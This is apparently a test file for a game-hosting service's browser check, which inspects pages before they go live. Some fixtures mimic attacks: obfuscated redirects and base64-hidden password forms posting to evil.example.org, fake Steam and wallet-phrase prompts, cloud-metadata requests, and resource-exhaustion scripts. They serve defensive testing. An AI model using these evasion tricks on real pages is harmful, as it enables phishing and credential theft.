@@ -1,0 +1,205 @@
+import assert from 'node:assert/strict';
+import { after, before, describe, it } from 'node:test';
+import type { CheckReport, PageReport, VersionRead } from '@spaceport/contract/hosting';
+import { browserSetting } from '../../../test/browser.ts';
+import { type Files, publishLive } from '../../../test/files.ts';
+import { type Persona, startService, type TestService } from '../../../test/service.ts';
+
+const drawn = '<body style="height:100vh;margin:0;background:linear-gradient(teal,navy)">';
+
+describe('opening a version in a browser before it goes live', () => {
+  let service: TestService;
+  let creator: Persona;
+  before(async () => {
+    // A quarter of a gibibyte over what an empty browser takes, so that a page can get there in a moment.
+    const environment = { BROWSER: browserSetting(), CHECK_SECONDS: '25', BROWSER_MAX_BYTES: '900m' };
+    service = await startService({ environment });
+    creator = await service.creator();
+  });
+  after(() => service.close());
+
+  /** Publishes for production, and reads what became of it. */
+  async function checked(
+    files: Files | string,
+    details: Parameters<typeof publishLive>[3] = {},
+  ): Promise<{ version: VersionRead; report: CheckReport; page: PageReport }> {
+    const published = await publishLive(
+      service,
+      creator,
+      typeof files === 'string' ? { 'index.html': `<!doctype html><title>Game</title>${files}` } : files,
+      details,
+    );
+    const answer = await creator.call('GET', `/api/v1/hosting/versions/${published.version.id}`);
+    const version = answer.json() as VersionRead;
+    const report = version.report ?? { findings: [] };
+    assert.ok(report.page, `no page in the report: ${answer.text()}`);
+    return { version, report, page: report.page };
+  }
+  const rules = ({ findings }: CheckReport) => findings.map(({ rule, severity }) => `${severity} ${rule}`);
+
+  it('reports how a page loads, and shows its creator a picture', async () => {
+    const { version, report, page } = await checked({
+      'index.html': `<!doctype html>${drawn}<h1>Moon</h1><script src="game.js"></script>`,
+      'game.js': 'document.title = "Moon";',
+    });
+    assert.equal(version.status, 'live', JSON.stringify(report));
+    assert.deepEqual(report.findings, []);
+    const { loaded, blank, consoleErrors, failedRequests, loadMs, bytes, clipUrl } = page;
+    assert.deepEqual(
+      { loaded, blank, consoleErrors, failedRequests },
+      {
+        loaded: true,
+        blank: false,
+        consoleErrors: [],
+        failedRequests: [],
+      },
+    );
+    assert.ok(loadMs > 0 && loadMs < 40_000 && bytes > 300, `${loadMs} ms, ${bytes} bytes`);
+    const picture = await service.get(String(clipUrl));
+    assert.equal(picture.status, 200);
+    assert.equal(picture.headers['content-type'], 'image/webp');
+    assert.equal(picture.body.subarray(8, 12).toString(), 'WEBP');
+    assert.match(String(picture.headers['cache-control']), /^private/u);
+    assert.equal((await service.get(String(clipUrl).replace(/.{5}\.webp$/u, '00000.webp'))).status, 404);
+  });
+
+  it('is at the origin where the game will be, as its players will', async () => {
+    const { page } = await checked(
+      `${drawn}<script>console.error(location.origin, isSecureContext, navigator.webdriver, /Headless/.test(navigator.userAgent))</script>`,
+    );
+    assert.match(
+      page.consoleErrors[0] ?? '',
+      /^http:\/\/moon-hopper(-\w+)?\.play\.localhost:\d+ true false false$/u,
+    );
+  });
+
+  it('sees WebGL draw', async () => {
+    const { version, page } = await checked({
+      'index.html': `<!doctype html><body style="margin:0"><canvas width="1280" height="720"></canvas><script>
+        const gl = document.querySelector('canvas').getContext('webgl2');
+        const draw = () => {
+          gl.disable(gl.SCISSOR_TEST); gl.clearColor(1, 0, 0, 1); gl.clear(gl.COLOR_BUFFER_BIT);
+          gl.enable(gl.SCISSOR_TEST); gl.scissor(0, 0, 400, 400); gl.clearColor(0, 0, 1, 1); gl.clear(gl.COLOR_BUFFER_BIT);
+          requestAnimationFrame(draw);
+        };
+        draw();
+      </script>`,
+    });
+    assert.equal(version.status, 'live');
+    assert.equal(page.blank, false);
+  });
+
+  it('only warns of a blank page and of errors in the console', async () => {
+    const { version, report, page } = await checked(
+      `<body><script>console.error('no level %s', 3); Promise.reject(new Error('later')); nothing.here();</script>`,
+    );
+    assert.equal(version.status, 'live');
+    assert.equal(page.blank, true);
+    assert.equal(page.clipUrl, undefined);
+    const errors = page.consoleErrors.join('\n');
+    for (const text of ['no level', 'later', 'nothing is not defined'])
+      assert.ok(errors.includes(text), errors);
+    assert.deepEqual(rules(report).sort(), ['warn page-blank', 'warn page-errors']);
+  });
+
+  it('explains requests that fail', async () => {
+    const { version, page } = await checked({
+      'index.html': `<!doctype html>${drawn}<script>
+        for (const url of ['Sprites/A.png', '/my-game/music/b.ogg', '/levels/c.json', 'd.bin', 'http://localhost:5173/e', 'http://169.254.169.254/f', 'https://router.internal/g'])
+          fetch(url, { mode: 'no-cors' }).catch(() => {});
+      </script>`,
+      'sprites/a.png': 'x',
+      'music/b.ogg': 'x',
+      'game/levels/c.json': '{}',
+    });
+    assert.equal(version.status, 'live');
+    const hint = (end: string) =>
+      page.failedRequests.find(({ url }) => url.endsWith(end))?.hint ?? 'no such request';
+    assert.match(hint('/Sprites/A.png'), /there as sprites\/a\.png: upper and lower case differ/u);
+    assert.match(hint('/my-game/music/b.ogg'), /asked from the root; the file is at music\/b\.ogg/u);
+    assert.match(hint('/levels/c.json'), /asked from the root; the file is at game\/levels\/c\.json/u);
+    assert.match(hint('/d.bin'), /There is no d\.bin in the upload/u);
+    assert.match(hint('/e'), /on your own machine/u);
+    assert.match(hint('/f'), /169\.254\.169\.254 was not reached/u);
+    assert.match(hint('/g'), /router\.internal was not reached/u);
+    assert.ok(page.failedRequests.every(({ reason }) => reason !== ''));
+  });
+
+  it('refuses a page that goes away by itself, however it is written', async () => {
+    const { version, report } = await checked(
+      `${drawn}<script>setTimeout(() => { window['loc' + 'ation'] = ['https:', '', 'evil.example.org', 'x'].join('/'); }, 1500)</script>`,
+    );
+    assert.equal(version.status, 'refused');
+    assert.deepEqual(rules(report), ['refuse page-leaves']);
+    assert.match(String(version.reason), /goes to evil\.example\.org by itself/u);
+  });
+
+  it('lets a page go on to another page of its own', async () => {
+    const { version } = await checked({
+      'index.html': '<!doctype html><script>setTimeout(() => { location = "two.html"; }, 500)</script>',
+      'two.html': `<!doctype html>${drawn}Two`,
+    });
+    assert.equal(version.status, 'live');
+  });
+
+  it('refuses a password form that scripts draw and that posts elsewhere, also in a closed shadow root', async () => {
+    const form = `atob('${Buffer.from('<form action="https://evil.example.org/in"><input type="password"></form>').toString('base64')}')`;
+    for (const into of [
+      'document.body',
+      "document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' })",
+    ]) {
+      const { version, report } = await checked(`${drawn}<script>(${into}).innerHTML = ${form};</script>`);
+      assert.equal(version.status, 'refused', JSON.stringify(report));
+      assert.deepEqual(rules(report), ['refuse off-site-password-form']);
+    }
+  });
+
+  it('refuses a sign-in of another service, wherever it posts to', async () => {
+    const markup = Buffer.from('<h1>Sign in to your Steam account</h1><input type="password">').toString(
+      'base64',
+    );
+    const { version, report } = await checked(
+      `${drawn}<script>document.body.innerHTML = atob('${markup}');</script>`,
+    );
+    assert.equal(version.status, 'refused');
+    assert.deepEqual(rules(report), ['refuse brand-sign-in']);
+    const own = Buffer.from('<h1>Sign in to your guild</h1><input type="password">').toString('base64');
+    assert.equal(
+      (await checked(`${drawn}<script>document.body.innerHTML = atob('${own}');</script>`)).version.status,
+      'live',
+    );
+  });
+
+  it('refuses a request for a wallet’s words that scripts draw', async () => {
+    const markup = Buffer.from('Enter your wallet recovery phrase <textarea></textarea>').toString('base64');
+    const { version, report } = await checked(
+      `${drawn}<script>document.body.innerHTML = atob('${markup}');</script>`,
+    );
+    assert.equal(version.status, 'refused');
+    assert.deepEqual(rules(report), ['refuse seed-phrase-form']);
+  });
+
+  for (const [what, script, rule] of [
+    ['never comes to an end', 'setTimeout(() => { for (;;); }, 300)', 'page-stuck'],
+    [
+      'takes all memory',
+      'const all = []; setInterval(() => all.push(new Uint8Array(5e7).fill(1)), 10)',
+      'page-crash',
+    ],
+  ] as const) {
+    it(`does not judge a page that ${what}`, async () => {
+      const { version, report } = await checked(`${drawn}<script>${script}</script>`);
+      assert.equal(version.status, 'unjudged');
+      assert.deepEqual(rules(report), [`unjudged ${rule}`]);
+    });
+  }
+
+  it('closes windows and turns dialogs down', async () => {
+    const { version, page } = await checked(
+      `${drawn}<script>alert(1); confirm(2); prompt(3); window.open('/'); onbeforeunload = () => 'stay';
+      Notification.requestPermission().then((answer) => console.error(answer));</script>`,
+    );
+    assert.equal(version.status, 'live');
+    assert.deepEqual(page.consoleErrors, ['denied']);
+  });
+});
